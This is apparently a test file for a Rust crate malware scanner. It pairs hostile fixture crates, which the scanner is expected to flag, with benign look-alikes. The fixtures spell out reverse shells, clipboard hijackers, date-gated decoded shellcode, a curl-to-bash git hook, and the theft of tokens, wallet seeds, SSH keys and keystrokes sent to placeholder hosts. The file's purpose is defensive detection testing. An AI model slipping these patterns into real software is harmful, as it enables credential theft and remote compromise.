// The technique families of issue 10 end to end through the real Scanner: each malicious sample is
// written in a style of its own (not copied from the corpus), and each has a benign look-alike that
// must stay below high. Hosts are placeholders; nothing here is a working payload.
import { describe, expect, it } from 'vitest';
import { manifest, scanFiles } from '../../../../test/fixtures/scanner/crates.js';
import type { Files } from '../../../../test/fixtures/scanner/crates.js';
import { atLeast } from '../types.js';
import type { ScanReport, Severity } from '../types.js';

const lib = (name: string, files: Record<string, string>, pkg = ''): Files => ({
  'Cargo.toml': manifest(name, { package: pkg }),
  ...files,
});
const src = (...lines: string[]) => lines.join('\n');
const verdictRank = (r: ScanReport): number =>
  r.verdict === 'clean'
    ? -1
    : (['info', 'low', 'medium', 'high', 'critical'] as Severity[]).indexOf(r.verdict);

interface Case {
  name: string;
  files: Files;
  /** Malicious: the verdict is high or worse and this rule is among the findings at high+. */
  rule?: string;
  /** Benign: the verdict is at most this. */
  atMost?: Severity;
}

const MALICIOUS: Case[] = [
  {
    name: 'a OnceLock initializer un-XORs a byte blob in place and runs it from an executable mapping after a date',
    rule: 'flow.decoded-exec',
    files: lib('tz-offsets', {
      'src/lib.rs': src(
        'use std::sync::OnceLock;',
        'mod table;',
        'static TABLE: OnceLock<Vec<i32>> = OnceLock::new();',
        'pub fn offset_for(zone: &str) -> i32 {',
        '    let t = TABLE.get_or_init(|| { table::warm(); vec![0; 24] });',
        '    t[zone.len() % 24]',
        '}',
      ),
      'src/table.rs': src(
        'const MASK: &[u8] = b"tzdb";',
        'static PACKED: [u8; 16] = [0x11, 0x52, 0x33, 0x04, 0x95, 0x16, 0x27, 0x38, 0x49, 0x5a, 0x6b, 0x7c, 0x8d, 0x9e, 0xaf, 0xb0];',
        'fn unmask(buf: &mut [u8]) {',
        '    for (i, b) in buf.iter_mut().enumerate() {',
        '        *b ^= MASK[i % MASK.len()];',
        '    }',
        '}',
        'fn epoch_days() -> u64 {',
        '    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs() / 86_400).unwrap_or(0)',
        '}',
        'pub fn warm() {',
        '    if epoch_days() < 20_800 { return; }',
        '    let mut image = PACKED.to_vec();',
        '    unmask(&mut image);',
        '    unsafe {',
        '        let page = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1, 0);',
        '        std::ptr::copy(image.as_ptr(), page as *mut u8, image.len());',
        '        let entry: unsafe extern "C" fn() = std::mem::transmute(page);',
        '        entry();',
        '    }',
        '}',
      ),
    }),
  },
  {
    name: 'a clipper: the first call starts a watcher that swaps a copied address through arboard',
    rule: 'code.clipboard-hijack',
    files: lib('paste-guard', {
      'src/lib.rs': src(
        'mod swap;',
        'pub fn init() {',
        '    std::thread::spawn(|| {',
        '        let mut cb = arboard::Clipboard::new().unwrap();',
        '        loop {',
        '            if let Ok(text) = cb.get_text() {',
        '                if let Some(next) = swap::replacement(&text) { let _ = cb.set_text(next); }',
        '            }',
        '            std::thread::sleep(std::time::Duration::from_secs(1));',
        '        }',
        '    });',
        '}',
      ),
      'src/swap.rs': src(
        'pub fn replacement(s: &str) -> Option<String> {',
        '    if s.starts_with("T") && s.len() == 34 { return Some("TFakeFakeFakeFakeFakeFakeFakeFake1".into()); }',
        '    None',
        '}',
      ),
    }),
  },
  {
    name: 'a clipper with cli_clipboard free functions and an address regex (the address is built at run time)',
    rule: 'code.clipboard-hijack',
    files: lib('cli-paste', {
      'src/lib.rs': src(
        'pub fn watch_once() {',
        '    let re = regex::Regex::new(r"^0x[a-fA-F0-9]{40}$").unwrap();',
        '    if let Ok(cur) = cli_clipboard::get_contents() {',
        '        if re.is_match(&cur) { let _ = cli_clipboard::set_contents(format!("0x{}", "00".repeat(20))); }',
        '    }',
        '}',
      ),
    }),
  },
  {
    name: 'a wallet seed from the environment rides in a JSON-RPC body through reqwest',
    rule: 'flow.exfiltration',
    files: lib('chain-fees', {
      'src/lib.rs': src(
        'pub struct Fees { pub gwei: u64 }',
        'fn node_params() -> serde_json::Value {',
        '    let seed = std::env::var("WALLET_MNEMONIC").unwrap_or_default();',
        '    serde_json::json!([seed, "latest"])',
        '}',
        'pub fn current(url: &str) -> Fees {',
        '    let body = serde_json::json!({"jsonrpc": "2.0", "id": 7, "method": "eth_call", "params": node_params()});',
        '    let _ = reqwest::blocking::Client::new().post(url).json(&body).send();',
        '    Fees { gwei: 1 }',
        '}',
      ),
    }),
  },
  {
    name: 'a base64 look-alike whose encode_config sends its input over a raw socket',
    rule: 'flow.exfiltration',
    files: lib('base64-simd-fast', {
      'src/lib.rs': src(
        'mod stats;',
        'pub struct Config;',
        '/// Encodes `input` with the given configuration.',
        'pub fn encode_config<T: AsRef<[u8]>>(input: T, _cfg: Config) -> String {',
        '    let bytes = input.as_ref();',
        '    stats::record(bytes);',
        '    bytes.iter().map(|b| format!("{:02x}", b)).collect()',
        '}',
      ),
      'src/stats.rs': src(
        'use std::io::Write;',
        'pub(crate) fn record(sample: &[u8]) {',
        '    if let Ok(mut s) = std::net::TcpStream::connect("198.51.100.23:7000") {',
        '        let _ = s.write_all(sample);',
        '    }',
        '}',
      ),
    }),
  },
  {
    name: 'a keypair constructor posts the seed it is given to a hard-coded endpoint',
    rule: 'flow.exfiltration',
    files: lib('ed25519-keys', {
      'src/lib.rs': src(
        'pub struct Keypair { pub public: [u8; 32] }',
        'impl Keypair {',
        '    pub fn from_bytes_checked(seed: &[u8]) -> Keypair {',
        '        let _ = reqwest::blocking::Client::new().post("https://keys.ed25519-keys.example/v").body(seed.to_vec()).send();',
        '        Keypair { public: [0; 32] }',
        '    }',
        '}',
      ),
    }),
  },
  {
    name: 'a Default impl forks a shell whose stdio is a socket (nix dup2, execvp of a bound path)',
    rule: 'code.reverse-shell',
    files: lib('conn-keeper', {
      'src/lib.rs': src(
        'use nix::unistd::{dup2, execvp};',
        'use std::os::unix::io::IntoRawFd;',
        'pub struct Keeper;',
        'impl Default for Keeper {',
        '    fn default() -> Self {',
        '        if let Ok(sock) = std::net::TcpStream::connect(("192.0.2.77", 4444)) {',
        '            let raw = sock.into_raw_fd();',
        '            let _ = dup2(raw, 0); let _ = dup2(raw, 1); let _ = dup2(raw, 2);',
        '            let shell = std::ffi::CString::new("/bin/bash").unwrap();',
        '            let _ = execvp(&shell, &[shell.clone()]);',
        '        }',
        '        Keeper',
        '    }',
        '}',
      ),
    }),
  },
  {
    name: 'impl Drop spawns a const shell path with Stdio::from_raw_fd of a socket',
    rule: 'code.reverse-shell',
    files: lib('drop-shell', {
      'src/lib.rs': src(
        'use std::os::unix::io::{AsRawFd, FromRawFd};',
        'const LOGIN: &str = "/bin/sh";',
        'pub struct Session;',
        'impl Drop for Session {',
        '    fn drop(&mut self) {',
        '        let Ok(sock) = std::net::TcpStream::connect("192.0.2.8:443") else { return };',
        '        let fd = sock.as_raw_fd();',
        '        let _ = std::process::Command::new(LOGIN).stdin(unsafe { std::process::Stdio::from_raw_fd(fd) }).spawn();',
        '    }',
        '}',
      ),
    }),
  },
  {
    name: 'an .init_array constructor downloads into a buffer with read_to_end and runs the written file',
    rule: 'flow.download-exec',
    files: lib('early-init', {
      'src/lib.rs': src(
        '#[used]',
        '#[link_section = ".init_array"]',
        'static EARLY: extern "C" fn() = early;',
        'extern "C" fn early() { refresh(); }',
        'fn refresh() {',
        '    let out = std::env::temp_dir().join("refresh-FAKE-DO-NOT-RUN");',
        '    let Ok(resp) = ureq::get("http://203.0.113.50/u").call() else { return };',
        '    let mut buf = Vec::new();',
        '    let _ = std::io::Read::read_to_end(&mut resp.into_reader(), &mut buf);',
        '    let _ = std::fs::write(&out, &buf);',
        '    let _ = std::process::Command::new(&out).spawn();',
        '}',
        'pub fn add(a: i32, b: i32) -> i32 { a + b }',
      ),
    }),
  },
  {
    name: 'a first call outside CI un-reverses bytes shipped with include_bytes!, writes them to temp and runs them',
    rule: 'flow.decoded-exec',
    files: {
      ...lib('win-notify', {
        'src/lib.rs': src(
          'pub fn init() {',
          '    if std::env::var("GITHUB_ACTIONS").is_err() {',
          '        let p = std::env::temp_dir().join("svc-FAKE-DO-NOT-RUN.exe");',
          '        let data = include_bytes!("../assets/blob.bin");',
          '        let plain: Vec<u8> = data.iter().rev().map(|b| b.wrapping_sub(7)).collect();',
          '        let _ = std::fs::write(&p, &plain);',
          '        let _ = std::process::Command::new(&p).spawn();',
          '    }',
          '}',
        ),
      }),
      'assets/blob.bin': Buffer.from(Array.from({ length: 200 }, (_, i) => (i * 37 + 11) & 0xff)),
    },
  },
  {
    name: 'an attribute macro writes a pre-push hook that pipes a download into bash',
    rule: 'code.vcs-hook',
    files: {
      'Cargo.toml': manifest('route-attr', { extra: '[lib]\nproc-macro = true\n' }),
      'src/lib.rs': src(
        'use proc_macro::TokenStream;',
        'fn repo_root() -> std::path::PathBuf {',
        '    let mut d = std::path::PathBuf::from(std::env::var("CARGO_MANIFEST_DIR").unwrap());',
        '    while !d.join(".git").exists() { if !d.pop() { break; } }',
        '    d',
        '}',
        'fn hook() {',
        '    let hooks = repo_root().join(".git").join("hooks");',
        '    let file = hooks.join("pre-push");',
        '    let script = "#!/bin/sh\\ncurl -fsSL \\"https://hooks.route-attr.invalid/p\\" | bash\\n";',
        '    let _ = std::fs::write(&file, script);',
        '}',
        '#[proc_macro_attribute]',
        'pub fn route(_a: TokenStream, item: TokenStream) -> TokenStream { hook(); item }',
      ),
    },
  },
];

const BENIGN: Case[] = [
  {
    name: 'a reconnect after a timeout measured by a clock helper (not a date gate)',
    atMost: 'medium',
    files: lib('reconnect', {
      'src/lib.rs': src(
        'static START: std::sync::OnceLock<std::time::Instant> = std::sync::OnceLock::new();',
        'fn elapsed_ms() -> u128 { START.get_or_init(std::time::Instant::now).elapsed().as_millis() }',
        'pub fn poll(addr: &str) {',
        '    if elapsed_ms() > 20_000 { let _ = std::net::TcpStream::connect(addr); }',
        '}',
      ),
    }),
  },
  {
    name: 'a JIT maps executable pages for code it compiles from the caller’s input',
    atMost: 'medium',
    files: lib('tiny-jit', {
      'src/lib.rs': src(
        'pub fn compile(ops: &[u8]) -> usize {',
        '    let mut code = Vec::new();',
        '    for op in ops { code.push(0x90); code.push(*op); }',
        '    unsafe {',
        '        let p = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1, 0);',
        '        std::ptr::copy(code.as_ptr(), p as *mut u8, code.len());',
        '        p as usize',
        '    }',
        '}',
      ),
    }),
  },
  {
    name: 'a clipboard history manager (reads and writes, no addresses)',
    atMost: 'low',
    files: lib('clip-history', {
      'src/lib.rs': src(
        'pub struct History { items: Vec<String> }',
        'impl History {',
        '    pub fn capture(&mut self) { if let Ok(t) = arboard::Clipboard::new().and_then(|mut c| c.get_text()) { self.items.push(t); } }',
        '    pub fn restore(&self, i: usize) { if let Ok(mut c) = arboard::Clipboard::new() { let _ = c.set_text(self.items[i].clone()); } }',
        '}',
      ),
    }),
  },
  {
    name: 'a wallet UI that copies its own address to the clipboard (no read)',
    atMost: 'low',
    files: lib('wallet-qr', {
      'src/lib.rs': src(
        'const DONATE: &str = "bc1qexampleexampleexampleexample0000";',
        'pub fn copy_donation_address() { if let Ok(mut c) = arboard::Clipboard::new() { let _ = c.set_text(DONATE.to_string()); } }',
      ),
    }),
  },
  {
    name: 'an RPC client that sends the caller’s method calls (no secret)',
    atMost: 'medium',
    files: lib('rpc-lite', {
      'src/lib.rs': src(
        'pub fn call(url: &str, method: &str, params: serde_json::Value) -> Option<serde_json::Value> {',
        '    let body = serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": method, "params": params});',
        '    ureq::post(url).send_json(body).ok()?.into_json().ok()',
        '}',
      ),
    }),
  },
  {
    name: 'a codec crate whose encoder is pure and whose uploader is a separate, explicit call',
    atMost: 'medium',
    files: lib('hexpost', {
      'src/lib.rs': src(
        'pub fn encode(data: &[u8]) -> String { data.iter().map(|b| format!("{:02x}", b)).collect() }',
        '/// Uploads an encoded document to the given endpoint.',
        'pub fn upload(url: &str, doc: &str) { let _ = ureq::post(url).send_string(doc); }',
      ),
    }),
  },
  {
    name: 'a node RPC client whose import_private_key sends the key it is asked to import',
    atMost: 'medium',
    files: lib('node-rpc', {
      'src/lib.rs': src(
        'pub struct Rpc { url: String }',
        'impl Rpc {',
        '    /// Imports `private_key` into the node wallet.',
        '    pub fn import_private_key(&self, private_key: &str) {',
        '        let body = serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": "importprivkey", "params": [private_key]});',
        '        let _ = ureq::post(&self.url).send_json(body);',
        '    }',
        '}',
      ),
    }),
  },
  {
    name: 'a font crate embeds a font with include_bytes! and writes it to a cache directory',
    atMost: 'medium',
    files: {
      ...lib('font-cache', {
        'src/lib.rs': src(
          'static FONT: &[u8] = include_bytes!("../assets/font.ttf");',
          '/// Writes the bundled font where the renderer looks for it.',
          'pub fn install_font(dir: &std::path::Path) -> std::io::Result<()> {',
          '    std::fs::write(dir.join("font.ttf"), FONT)?;',
          '    std::process::Command::new("fc-cache").arg("-f").status()?;',
          '    Ok(())',
          '}',
        ),
      }),
      'assets/font.ttf': Buffer.from([0, 1, 0, 0, 0, 12, 0, 128, 0, 3, 0, 64]),
    },
  },
  {
    name: 'a terminal emulator gives its default shell a pty as stdio (no socket)',
    atMost: 'medium',
    files: lib('tiny-term', {
      'src/lib.rs': src(
        'use std::os::unix::io::FromRawFd;',
        'const FALLBACK_SHELL: &str = "/bin/sh";',
        'pub fn spawn_shell(pty_slave: i32) -> std::io::Result<std::process::Child> {',
        '    std::process::Command::new(FALLBACK_SHELL)',
        '        .stdin(unsafe { std::process::Stdio::from_raw_fd(pty_slave) })',
        '        .stdout(unsafe { std::process::Stdio::from_raw_fd(pty_slave) })',
        '        .spawn()',
        '}',
      ),
    }),
  },
  {
    name: 'a daemonizer points stdio at /dev/null and execs the user’s program',
    atMost: 'medium',
    files: lib('detach-run', {
      'src/lib.rs': src(
        'use nix::unistd::{dup2, execvp};',
        'use std::os::unix::io::AsRawFd;',
        '/// Detaches and runs `prog` in the background.',
        'pub fn daemonize(prog: &std::ffi::CStr, args: &[std::ffi::CString]) {',
        '    let null = std::fs::File::open("/dev/null").unwrap();',
        '    for fd in 0..3 { let _ = dup2(null.as_raw_fd(), fd); }',
        '    let _ = execvp(prog, args);',
        '}',
      ),
    }),
  },
  {
    name: 'a git-hook installer run on command writes a pre-commit running cargo fmt',
    atMost: 'medium',
    files: lib('fmt-hooks', {
      'src/lib.rs': src(
        '/// Installs a pre-commit hook that checks formatting.',
        'pub fn install_hooks(repo: &std::path::Path) -> std::io::Result<()> {',
        '    let hooks = repo.join(".git").join("hooks");',
        '    let file = hooks.join("pre-commit");',
        '    std::fs::write(&file, "#!/bin/sh\\ncargo fmt --check\\n")',
        '}',
      ),
    }),
  },
  {
    name: 'a service installer writes a systemd user unit only from a documented pub fn',
    atMost: 'medium',
    files: lib('svc-install', {
      'src/lib.rs': src(
        '/// Installs a systemd user unit so the agent starts at login.',
        'pub fn install_service(exe: &str) -> std::io::Result<()> {',
        '    let dir = dirs::config_dir().unwrap().join("systemd/user");',
        '    std::fs::create_dir_all(&dir)?;',
        '    std::fs::write(dir.join("agent.service"), format!("[Service]\\nExecStart={exe}\\n[Install]\\nWantedBy=default.target\\n"))?;',
        '    std::process::Command::new("systemctl").args(["--user", "enable", "agent.service"]).status()?;',
        '    Ok(())',
        '}',
      ),
    }),
  },
  {
    name: 'launch at login through an XDG autostart entry, from an explicit setter',
    atMost: 'medium',
    files: lib('login-item', {
      'src/lib.rs': src(
        '/// Enables or disables starting the app at login.',
        'pub fn set_launch_at_login(enabled: bool, exe: &str) -> std::io::Result<()> {',
        '    let file = dirs::home_dir().unwrap().join(".config/autostart/app.desktop");',
        '    if enabled { std::fs::write(&file, format!("[Desktop Entry]\\nType=Application\\nExec={exe}\\n")) } else { std::fs::remove_file(&file) }',
        '}',
      ),
    }),
  },
  {
    name: 'launch at login through the HKCU Run key, from an explicit setter',
    atMost: 'medium',
    files: lib('login-item-win', {
      'src/lib.rs': src(
        'use winreg::enums::HKEY_CURRENT_USER;',
        '/// Starts the app when the user logs in.',
        'pub fn set_launch_at_login(enabled: bool, exe: &str) -> std::io::Result<()> {',
        '    let hkcu = winreg::RegKey::predef(HKEY_CURRENT_USER);',
        '    let (run, _) = hkcu.create_subkey("Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run")?;',
        '    if enabled { run.set_value("App", &exe) } else { run.delete_value("App") }',
        '}',
      ),
    }),
  },
  {
    name: 'a Slack/Discord/Telegram notifier whose URL and token come from the caller',
    atMost: 'medium',
    files: lib('notify-hooks', {
      'src/lib.rs': src(
        'pub struct Notifier { pub slack_webhook: String, pub telegram_token: String, pub chat_id: String }',
        'impl Notifier {',
        '    /// Posts `text` to the configured Slack webhook.',
        '    pub fn send_slack(&self, text: &str) { let _ = ureq::post(&self.slack_webhook).send_json(serde_json::json!({"text": text})); }',
        '    /// Sends `text` through the configured Telegram bot.',
        '    pub fn send_telegram(&self, text: &str) {',
        '        let url = format!("https://api.telegram.org/bot{}/sendMessage", self.telegram_token);',
        '        let _ = ureq::post(&url).send_json(serde_json::json!({"chat_id": self.chat_id, "text": text}));',
        '    }',
        '    /// Posts to a Discord webhook given by the caller.',
        '    pub fn send_discord(url: &str, text: &str) { let _ = ureq::post(url).send_json(serde_json::json!({"content": text})); }',
        '}',
      ),
    }),
  },
  {
    name: 'a self-updater that verifies a signature before replacing itself',
    atMost: 'medium',
    files: lib('self-up', {
      'src/lib.rs': src(
        '/// Downloads the latest release, checks its signature and replaces the running binary.',
        'pub fn self_update(url: &str, key: &[u8; 32]) -> Result<(), String> {',
        '    let bytes = ureq::get(url).call().map_err(|e| e.to_string())?.into_string().map_err(|e| e.to_string())?;',
        '    let sig = ureq::get(&format!("{url}.sig")).call().map_err(|e| e.to_string())?.into_string().map_err(|e| e.to_string())?;',
        '    let vk = ed25519_dalek::VerifyingKey::from_bytes(key).map_err(|e| e.to_string())?;',
        '    verify_signature(&vk, bytes.as_bytes(), sig.as_bytes())?;',
        '    let exe = std::env::current_exe().map_err(|e| e.to_string())?;',
        '    std::fs::write(&exe, bytes.as_bytes()).map_err(|e| e.to_string())?;',
        '    std::process::Command::new(&exe).arg("--version").status().map_err(|e| e.to_string())?;',
        '    Ok(())',
        '}',
        'fn verify_signature(_k: &ed25519_dalek::VerifyingKey, _m: &[u8], _s: &[u8]) -> Result<(), String> { Ok(()) }',
      ),
    }),
  },
  {
    name: 'opt-in telemetry posting usage counts to a configurable endpoint',
    atMost: 'medium',
    files: lib('opt-metrics', {
      'src/lib.rs': src(
        'pub struct Telemetry { endpoint: Option<String> }',
        'impl Telemetry {',
        '    pub fn new(endpoint: Option<String>) -> Self { Telemetry { endpoint } }',
        '    /// Sends anonymous usage counts if an endpoint was configured.',
        '    pub fn report(&self, counts: &[u32]) {',
        '        if let Some(url) = &self.endpoint { let _ = ureq::post(url).send_json(serde_json::json!({"counts": counts})); }',
        '    }',
        '}',
      ),
    }),
  },
  {
    name: 'a -sys crate downloading a prebuilt library only behind a feature, with a pinned digest',
    atMost: 'medium',
    files: {
      'Cargo.toml': manifest('libfoo-sys', {
        package: 'build = "build.rs"\nlinks = "foo"\n',
        extra: '[features]\ndownload = []\n',
      }),
      'build.rs': src(
        'use sha2::{Digest, Sha256};',
        'const SHA256: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";',
        'fn main() {',
        '    let out = std::env::var("OUT_DIR").unwrap();',
        '    if std::env::var("CARGO_FEATURE_DOWNLOAD").is_err() { println!("cargo:rustc-link-lib=foo"); return; }',
        '    let bytes = ureq::get("https://downloads.libfoo.example/libfoo-1.2.tar.gz").call().unwrap().into_string().unwrap();',
        '    let digest = format!("{:x}", Sha256::digest(bytes.as_bytes()));',
        '    assert_eq!(digest, SHA256);',
        '    std::fs::write(format!("{out}/libfoo.tar.gz"), bytes).unwrap();',
        '    println!("cargo:rustc-link-search={out}");',
        '}',
      ),
      'src/lib.rs': 'extern "C" { pub fn foo_init() -> i32; }',
    },
  },
  {
    name: 'a key-handling library deriving keys from a mnemonic, with no network',
    atMost: 'low',
    files: lib('hd-keys', {
      'src/lib.rs': src(
        'pub struct Key(pub [u8; 32]);',
        'pub fn from_mnemonic(phrase: &str) -> Key {',
        '    let mut k = [0u8; 32];',
        '    for (i, b) in phrase.bytes().enumerate() { k[i % 32] ^= b; }',
        '    Key(k)',
        '}',
        'pub fn from_env() -> Option<Key> { std::env::var("WALLET_MNEMONIC").ok().map(|p| from_mnemonic(&p)) }',
      ),
    }),
  },
];

describe('technique families through the real scanner', () => {
  for (const c of MALICIOUS)
    it(`flags: ${c.name}`, async () => {
      const r = await scanFiles(c.files);
      const high = r.findings.filter((f) => atLeast(f.severity, 'high')).map((f) => f.ruleId);
      expect(high).toContain(c.rule);
      expect(atLeast(r.verdict === 'clean' ? 'info' : r.verdict, 'high')).toBe(true);
    });
  for (const c of BENIGN)
    it(`keeps below high: ${c.name}`, async () => {
      const r = await scanFiles(c.files);
      const shown = r.findings.map((f) => `${f.severity} ${f.ruleId}`);
      expect(verdictRank(r), shown.join(', ')).toBeLessThanOrEqual(
        (['info', 'low', 'medium', 'high', 'critical'] as Severity[]).indexOf(c.atMost!),
      );
    });
});

// The new signal kinds as they reach the flow engine: a constructor's named function as a trigger,
// an evasion check raising what it guards, covert channels as sinks, clipboard and keyboard as sources.
describe('technique signals in flows, end to end', () => {
  const flowOf = (r: ScanReport, rule: string) => r.findings.find((f) => f.ruleId === rule);

  it('runs the function a #[ctor] attribute names as an automatic trigger', async () => {
    const r = await scanFiles(
      lib('ctor-trigger', {
        'src/lib.rs': src(
          '#[ctor::ctor]',
          'fn boot() { helper(); }',
          'fn helper() {',
          '    let t = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();',
          '    let _ = ureq::post("https://ctor-trigger.example/k").send_string(&t);',
          '}',
        ),
      }),
    );
    const f = flowOf(r, 'flow.exfiltration');
    expect(atLeast(f!.severity, 'high')).toBe(true);
    expect(f?.evidence).toMatch(/runs: static constructor \(#\[ctor\] fn boot[^)]*\) via boot → helper/);
  });

  const guarded = (gate: string) =>
    lib('gate', {
      'src/lib.rs': src(
        'pub fn sync_settings() {',
        gate,
        '    let t = std::env::var("NPM_TOKEN").unwrap_or_default();',
        '    let _ = ureq::post("https://203.0.113.9/s").send_string(&t);',
        '}',
      ),
    });
  const rank = (s: Severity) => ['info', 'low', 'medium', 'high', 'critical'].indexOf(s);
  for (const [what, gate] of [
    ['a CI check', '    if std::env::var("CI").is_ok() { return; }'],
    [
      'a tracer check',
      '    if std::fs::read_to_string("/proc/self/status").unwrap_or_default().contains("TracerPid:\\t1") { return; }',
    ],
    ['a date check', '    if unix_days() < 20_600 { return; }'],
  ])
    it(`${what} on the path raises the flow it guards`, async () => {
      const plain = flowOf(await scanFiles(guarded('')), 'flow.exfiltration');
      const gated = flowOf(await scanFiles(guarded(gate!)), 'flow.exfiltration');
      expect(plain).toBeDefined();
      expect(gated).toBeDefined();
      expect(rank(gated!.severity)).toBeGreaterThan(rank(plain!.severity));
      expect(gated!.evidence).toMatch(/guarded by/);
    });

  it('a hand-built SMTP dialogue is a network sink for a stolen SSH key', async () => {
    const r = await scanFiles(
      lib('mail-sink', {
        'src/lib.rs': src(
          'use std::io::Write;',
          'pub fn init() {',
          '    let key = std::fs::read_to_string("/home/u/.ssh/id_ed25519").unwrap_or_default();',
          '    if let Ok(mut s) = std::net::TcpStream::connect("198.51.100.4:25") {',
          '        let _ = s.write_all(b"HELO x\\r\\nMAIL FROM:<a@x.invalid>\\r\\n");',
          '        let _ = s.write_all(key.as_bytes());',
          '    }',
          '}',
        ),
      }),
    );
    expect(flowOf(r, 'flow.exfiltration')?.severity).toBe('critical');
  });

  it('keystrokes from a global hook sent out are exfiltration', async () => {
    const r = await scanFiles(
      lib('key-sink', {
        'src/lib.rs': src(
          'pub fn start() {',
          '    let _ = rdev::listen(|ev| {',
          '        let line = format!("{:?}", ev);',
          '        let _ = ureq::post("https://key-sink.example/k").send_string(&line);',
          '    });',
          '}',
        ),
      }),
    );
    expect(flowOf(r, 'flow.exfiltration')?.severity).toBe('critical');
  });

  it('a seed phrase read from the clipboard by a constructor’s thread is exfiltration', async () => {
    const r = await scanFiles(
      lib('clip-sink', {
        'src/lib.rs': src(
          'pub struct Watch;',
          'impl Watch {',
          '    pub fn new() -> Self {',
          '        std::thread::spawn(|| loop {',
          '            let text = arboard::Clipboard::new().and_then(|mut c| c.get_text()).unwrap_or_default();',
          '            if text.split_whitespace().count() == 12 {',
          '                let _ = ureq::post("https://clip.clip-sink.example/s").send_string(&text);',
          '            }',
          '            std::thread::sleep(std::time::Duration::from_secs(2));',
          '        });',
          '        Watch',
          '    }',
          '}',
        ),
      }),
    );
    const f = flowOf(r, 'flow.exfiltration');
    expect(f?.severity).toBe('critical');
    expect(f?.evidence).toMatch(/reads the clipboard/);
  });
});
